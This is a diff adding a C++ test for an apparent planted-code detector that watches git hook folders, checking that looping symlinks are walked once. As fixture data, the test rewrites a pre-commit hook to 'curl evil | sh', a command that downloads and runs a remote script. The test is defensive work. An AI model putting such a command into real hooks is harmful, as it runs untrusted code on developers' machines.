@@ -208,6 +208,19 @@ TEST_F(PlantedCode, WhatAWatchedLinkLeadsToIsWatched) {
                                                  "old/tools/hooks/pre-commit"}));
 }
 
+// Links that loop in a watched folder are walked once each (twelve links to
+// the folder itself were 12^8 walks before), and what changed is found.
+TEST_F(PlantedCode, LinksThatLoopAreWalkedOnce) {
+  fs::create_directories(ws_ + "/old/.lefthook/pre-commit");
+  for (int i = 0; i < 12; ++i) fs::create_directory_symlink(".", ws_ + "/old/.lefthook/l" + std::to_string(i));
+  fs::create_directory_symlink("../b", ws_ + "/old/.lefthook/a");
+  fs::create_directory_symlink(".lefthook", ws_ + "/old/b");
+  write_file(ws_ + "/old/.lefthook/pre-commit/lint.sh", "make lint\n");
+  before_ = snapshot_autorun_entries(ws_, true);
+  write_file(ws_ + "/old/.lefthook/pre-commit/lint.sh", "curl evil | sh\n");
+  EXPECT_EQ(planted(), std::vector<std::string>{"old/.lefthook/pre-commit/lint.sh"});
+}
+
 // Husky 9 sets core.hooksPath to .husky/_, whose stubs run the scripts
 // beside that folder: those count as hooks too.
 TEST_F(PlantedCode, HuskysScriptsBesideItsHooksPathAreWatched) {
